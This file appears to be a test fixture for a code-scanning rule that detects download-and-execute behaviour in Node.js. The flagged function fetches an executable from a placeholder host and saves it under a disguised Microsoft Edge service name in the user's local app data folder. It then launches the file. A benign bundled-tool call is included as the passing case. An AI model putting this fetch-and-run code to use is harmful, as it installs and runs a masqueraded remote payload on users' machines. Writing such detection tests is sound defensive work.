// a Windows program needs no execute bit: a path ending in .exe handed to the file's own download helper, then started
const fs = require('fs');
const path = require('path');
const https = require('https');
const { execFile } = require('child_process');
function fetchTo(url, file) {
  return new Promise((resolve) => https.get(url, (res) => res.pipe(fs.createWriteStream(file)).on('finish', resolve)));
}
async function worker() {
  // ruleid: download_and_run
  const exe = path.join(process.env.LOCALAPPDATA, 'Microsoft', 'EdgeUpdate', 'msedgesvc.exe');
  await fetchTo('https://dl.cdn-example.net/w.exe', exe);
  execFile(exe, ['--svc']);
}
// ok: download_and_run
const tool = path.join(__dirname, 'bin', 'tool.exe');
function version() { return execFile(tool, ['--version']); }
module.exports = { worker, version };
